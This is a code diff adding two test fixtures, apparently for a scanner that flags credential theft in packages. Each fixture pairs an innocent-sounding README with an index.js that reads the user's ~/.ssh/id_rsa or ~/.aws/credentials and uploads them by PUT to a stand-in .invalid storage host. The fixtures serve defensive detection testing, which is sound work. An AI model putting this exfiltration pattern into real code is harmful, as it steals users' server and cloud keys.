@@ -50,6 +50,24 @@ return fetch(end + '/' + path, { method: 'PUT', body, headers: { authorization: 
       weight: 'weak',
     },
     {
+      when: 'keys for servers or for a store are put into a variable and sent as they are, and a function beside it signs',
+      files: {
+        'README.md': 'Puts the files of a folder into a store, https://<bucket>.s3.plain-store.invalid, and logs in to servers.',
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const { createHmac } = require('crypto'); exports.sign = key => createHmac('sha256', key).update('aws4_request').digest('hex');
+exports.send = (to, other) => { const text = fs.readFileSync(path.join(os.homedir(), other ? '.ssh/id_rsa' : '.aws/credentials')); fetch('https://' + to + '.s3.plain-store.invalid/', { method: 'PUT', body: text }); };`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'one function reads the keys for a store and those for servers, and only a comment signs',
+      files: {
+        'README.md': 'Puts the files of a folder into a store, https://<bucket>.s3.plain-store.invalid, and logs in to servers.',
+        'index.js': `const fs = require('fs'), os = require('os'); /* createHmac('sha256', key).update('aws4_request') */
+exports.put = (to, other) => { const login = fs.readFileSync(os.homedir() + '/' + (other ? '.ssh/id_rsa' : '.aws/credentials'), 'utf8'); const [, id, key] = /(\\S+) (\\S+)/.exec(login); return fetch('https://' + to + '.s3.plain-store.invalid/', { method: 'PUT', headers: { authorization: id + key } }) }`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'one function reads the keys for a store and those for servers, and requests to the store are signed',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
